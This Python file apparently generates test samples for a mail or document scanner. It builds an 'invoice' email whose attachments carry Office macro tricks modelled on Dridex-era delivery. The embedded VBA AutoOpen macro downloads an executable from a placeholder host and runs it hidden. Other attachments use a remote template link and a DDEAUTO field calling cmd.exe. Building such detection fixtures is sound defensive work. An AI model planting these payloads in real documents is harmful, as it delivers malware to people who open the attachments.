"""Macros in documents that are one file of XML: of Word 2003 under .doc, as Dridex came in 2015, and a
package that was written flat."""
from kit import *

SOURCE = '''Sub AutoOpen()
    Dim x
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://files.example.invalid/a.exe", False
    x.Send
    Shell "a.exe", 0
End Sub
'''


def make():
    dde = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd.exe "/c echo" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return (Mail("Invoice INV-2015", "billing@example.net").text("Please find the invoice attached.\n")
            .attach("invoice.doc", office.word2003(SOURCE))
            .attach("invoice.xml", office.flat(office.docm(SOURCE)))
            .attach("letter.doc", office.flat(office.docx_template("http://files.example.invalid/a.dotm")))
            .attach("field.doc", office.word2003(body=dde)).bytes())
